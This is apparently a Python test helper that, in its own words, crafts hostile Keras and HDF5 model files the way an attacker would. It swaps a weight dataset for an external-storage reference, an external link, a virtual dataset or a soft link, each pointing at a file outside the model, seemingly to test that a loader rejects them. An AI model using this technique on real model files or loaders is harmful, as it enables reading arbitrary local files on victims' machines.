"""Crafting hostile model files, as an attacker would: from a file real Keras or minikeras wrote,
with h5py, one weight dataset is replaced by something that points outside the file."""

import os
import shutil
import zipfile

import h5py
import numpy as np


def first_kernel(f):
    """The path of the first 2-D dataset of an open HDF5 file (a Dense kernel)."""
    found = []
    f.visititems(lambda name, obj: found.append(name) if isinstance(obj, h5py.Dataset)
                 and obj.ndim == 2 and not found else None)
    return found[0]


def replace_kernel(f, kind, target):
    """Replaces the first kernel of the open HDF5 file `f` by a member of `kind` that points
    at `target` (a path outside the file). Returns the member's path."""
    name = first_kernel(f)
    shape, dtype = f[name].shape, f[name].dtype
    del f[name]
    if kind == "external_storage":
        f.create_dataset(name, shape, dtype,
                         external=[(target, 0, int(np.prod(shape)) * dtype.itemsize)])
    elif kind == "external_link":
        f[name] = h5py.ExternalLink(target, "/kernel")
    elif kind == "virtual":
        layout = h5py.VirtualLayout(shape, dtype)
        layout[...] = h5py.VirtualSource(target, "kernel", shape)
        f.create_virtual_dataset(name, layout, fillvalue=7.0)
    elif kind == "soft_link_out":  # a soft link to an external link elsewhere in the file
        f["outside"] = h5py.ExternalLink(target, "/kernel")
        f[name] = h5py.SoftLink("/outside")
        return "/outside"
    else:
        raise ValueError(kind)
    return "/" + name


def source_file(path, shape=(4, 5)):
    """An HDF5 file holding `/kernel`: what an external link or a virtual dataset reads."""
    with h5py.File(path, "w") as f:
        f["kernel"] = np.full(shape, 42.0, "float32")
    return path


def craft(original, out_path, kind, target):
    """A copy of the model file `original` (`.keras`, `.h5` or `.weights.h5`) at `out_path`
    with its first kernel replaced (`replace_kernel`). Returns the member's path."""
    if not str(original).endswith(".keras"):
        shutil.copy(original, out_path)
        with h5py.File(out_path, "a") as f:
            return replace_kernel(f, kind, target)
    weights = str(out_path) + ".weights.h5"
    with zipfile.ZipFile(original) as src:
        with open(weights, "wb") as f:
            f.write(src.read("model.weights.h5"))
        with h5py.File(weights, "a") as f:
            member = replace_kernel(f, kind, target)
        with zipfile.ZipFile(out_path, "w") as dst:
            for name in src.namelist():
                if name == "model.weights.h5":
                    dst.write(weights, name)
                else:
                    dst.writestr(name, src.read(name))
    os.remove(weights)
    return member
